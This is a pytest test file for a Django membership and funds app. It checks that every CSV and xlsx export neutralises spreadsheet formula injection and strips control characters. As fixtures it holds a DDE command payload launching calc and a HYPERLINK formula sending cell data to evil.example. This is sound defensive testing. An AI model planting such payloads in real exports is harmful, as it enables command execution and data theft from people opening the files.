"""No spreadsheet the project writes runs what a user typed (OWASP CSV injection).

Names, addresses, notes, card and document numbers, donors and unit names that start like a
formula go through every CSV and xlsx download; each cell read back is text with a quote in front
(never a formula, and no xlsx <f> element), while money and counts stay numbers.
"""

import csv
import datetime
import io
import re
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.urls import reverse
from python_calamine import CalamineWorkbook

from core.cells import (
    CONTROLS,
    FORMULA_STARTS,
    safe_cell,
    safe_row,
    safe_text,
    workbook,
    write_cell,
)
from dues import services as dues_services
from funds import services as funds_services
from funds.models import Category, Direction, Donor, DonorKind, Entry, OrganisationKind
from imports import services as import_services
from members.models import Membership
from members.tests.factories import make_member
from org.models import Unit
from people.models import Person

CMD = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
NASTY = [CMD, LINK, "+1", "-2", "@x", "\tTab", "\rCR"]
# NUL, ESC and a right-to-left override, as old rows in SQLite may hold them.
CONTROL_NAME = "Nguyễn\x00 Văn\u202e \x1b[31mAn"


def test_safe_text_quotes_what_starts_like_a_formula_and_nothing_else():
    for value in NASTY:
        assert safe_text(value) == "'" + value
    for value in ("Nguyễn Văn An", "048085000123", "", "a=b", "1-2", "'quoted"):
        assert safe_text(value) == value
    assert safe_row([-2, 1.5, None, "-2", datetime.date(2025, 1, 1)]) == [
        -2, 1.5, None, "'-2", datetime.date(2025, 1, 1),
    ]  # fmt: skip
    assert safe_cell(-150_000) == -150_000  # money stays a number
    assert safe_text(CONTROL_NAME) == "Nguyễn Văn [31mAn"
    assert safe_text("\x00=1+1") == "'=1+1"
    assert safe_text("dòng 1\ndòng 2\tcột") == "dòng 1\ndòng 2\tcột"


def test_write_cell_writes_text_as_text_and_numbers_as_numbers():
    out = io.BytesIO()
    wb = workbook(out, {"in_memory": True})
    ws = wb.add_worksheet()
    for c, value in enumerate([CMD, -150_000, "http://x.example", "0905123456"]):
        write_cell(ws, 0, c, value)
    wb.close()
    assert _formulas(out.getvalue()) == []
    row = _xlsx_values(out.getvalue())[0]
    assert row == ["'" + CMD, -150_000, "http://x.example", "0905123456"]


def _formulas(content: bytes) -> list[str]:
    """The <f> (formula) elements and hyperlinks of every sheet of an xlsx."""
    found = []
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = z.read(name).decode()
                found += re.findall(r"<f[ >][^<]*", xml) + re.findall(r"<hyperlink\b", xml)
    return found


def _xlsx_values(content: bytes) -> list[list]:
    book = CalamineWorkbook.from_filelike(io.BytesIO(content))
    return [
        row
        for name in book.sheet_names
        for row in book.get_sheet_by_name(name).to_python(skip_empty_area=False)
    ]


def _unsafe(values) -> list:
    return [v for v in values if isinstance(v, str) and v.startswith(FORMULA_STARTS)]


@pytest.fixture
def nasty(tree, users, settings, tmp_path):
    """A branch, members, a fund entry and a donor whose texts start like formulas (written
    straight into the tables: whatever the forms let in today, old data may hold anything)."""
    settings.VAR_DIR = tmp_path / "var"
    Unit.objects.filter(pk=tree.br1a.pk).update(name=LINK)
    a = make_member(None, tree.br1a, joined=datetime.date(2020, 1, 1))
    b = make_member(None, tree.br1a, joined=datetime.date(2020, 1, 1))
    Person.objects.filter(pk=a.person_id).update(full_name=CMD, address_detail="+1")
    Person.objects.filter(pk=b.person_id).update(full_name=LINK, address_detail="@x")
    c = make_member(None, tree.br1a, joined=datetime.date(2020, 1, 1))
    # PostgreSQL refuses NUL in text (only old SQLite rows can hold it); ESC and U+202E remain.
    stored = CONTROL_NAME if connection.vendor == "sqlite" else CONTROL_NAME.replace("\x00", "")
    Person.objects.filter(pk=c.person_id).update(full_name=stored)
    Membership.objects.filter(pk=a.pk).update(card_number="-2", note="\tTab")
    Membership.objects.filter(pk=b.pk).update(card_number="@x", note="\rCR")
    dues_services.record_payment(
        actor=None, membership=a, year=2025, paid_on=datetime.date(2025, 3, 1), amount=None
    )
    donor = funds_services.create_donor(
        actor=users.base_manager, unit=tree.b1, kind=DonorKind.ORGANISATION,
        name="Công ty TNHH Sông Hàn", organisation_kind=OrganisationKind.COMPANY,
    )  # fmt: skip
    Donor.objects.filter(pk=donor.pk).update(name=CMD)
    for direction, amount in ((Direction.IN, 1_500_000), (Direction.OUT, 200_000)):
        entry = funds_services.record_entry(
            actor=users.base_manager, unit=tree.b1, on=datetime.date(2025, 1, 15),
            amount=amount, direction=direction,
            category=Category.DONATION if direction == Direction.IN else Category.RELIEF,
            donor=donor if direction == Direction.IN else None, document_number="PT-001",
            note="x",
        )  # fmt: skip
        Entry.objects.filter(pk=entry.pk).update(document_number=LINK, note="-2")
    return tree


def _downloads(client, tree, users):
    """(what, content type, bytes) of every CSV and xlsx a user can download."""
    b1, q = tree.b1.pk, {"year": 2025}
    urls = [
        ("members.csv", reverse("member_exports:csv", args=[b1]), {}),
        ("book.xlsx", reverse("member_exports:book_xlsx", args=[b1]), {}),
        ("remittance.xlsx", reverse("dues:remittance_xlsx", args=[b1]), q),
        ("ledger.xlsx", reverse("funds:ledger_xlsx", args=[b1]),
         {"start": "2025-01-01", "end": "2025-12-31"}),
        ("indicators.xlsx", reverse("indicators:export", args=[b1]), q),
        ("denominators.xlsx", reverse("indicators:denominators_template", args=[b1]), q),
        ("template.xlsx", reverse("imports:template", args=[b1]), {}),
    ]  # fmt: skip
    client.force_login(users.base_manager)
    out = []
    for what, url, params in urls:
        r = client.get(url, params)
        assert r.status_code == 200, what
        out.append((what, b"".join(r.streaming_content) if r.streaming else r.content))
    # The import's error workbook: rows refused with their cells as they were typed.
    header = ["Họ và tên", "Giới tính", "Năm sinh", "Số điện thoại", "Ghi chú"]
    rows = [[CMD, "x", "1985", "+1", "@x"], [LINK, "Nam", "năm", "-2", "\tTab"], ["@x", "", "", "", ""]]  # fmt: skip
    text = io.StringIO()
    csv.writer(text).writerows([header, *rows])
    job = import_services.create_job(
        actor=users.base_manager, unit=tree.b1, kind="member",
        upload=SimpleUploadedFile("ds.csv", text.getvalue().encode("utf-8-sig")),
    )  # fmt: skip
    job = import_services.analyse_job(job)
    assert job.counts["error"] == 3
    r = client.get(reverse("imports:errors", args=[b1, job.pk]))
    assert r.status_code == 200
    content = b"".join(r.streaming_content) if r.streaming else r.content
    out.append(("errors.xlsx", content))
    return out


def test_no_download_carries_a_live_formula(nasty, users, client):
    seen = {}
    for what, content in _downloads(client, nasty, users):
        if what.endswith(".csv"):
            values = [
                c for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for c in row
            ]
        else:
            assert _formulas(content) == [], what
            values = [c for row in _xlsx_values(content) for c in row]
        assert _unsafe(values) == [], what
        assert [v for v in values if isinstance(v, str) and CONTROLS.search(v)] == [], what
        seen[what] = values
    flat = {what: " | ".join(map(str, values)) for what, values in seen.items()}
    # The texts did reach the files, neutralised.
    for what in ("members.csv", "book.xlsx", "errors.xlsx"):
        assert "'" + CMD in flat[what] and "'" + LINK in flat[what], what
    assert "'+1" in flat["members.csv"] and "'-2" in flat["members.csv"]
    assert "'@x" in flat["members.csv"] and "'\tTab" in flat["members.csv"]
    assert "Nguyễn Văn [31mAn" in flat["members.csv"] and "Nguyễn Văn [31mAn" in flat["book.xlsx"]
    assert "'" + LINK in flat["ledger.xlsx"] and "'" + CMD in flat["ledger.xlsx"]
    for what in ("remittance.xlsx", "indicators.xlsx", "denominators.xlsx", "template.xlsx"):
        assert "'" + LINK in flat[what], what
    # Money stays numbers (an amount out of the fund is not turned into text).
    assert 1_500_000 in seen["ledger.xlsx"] and 200_000 in seen["ledger.xlsx"]
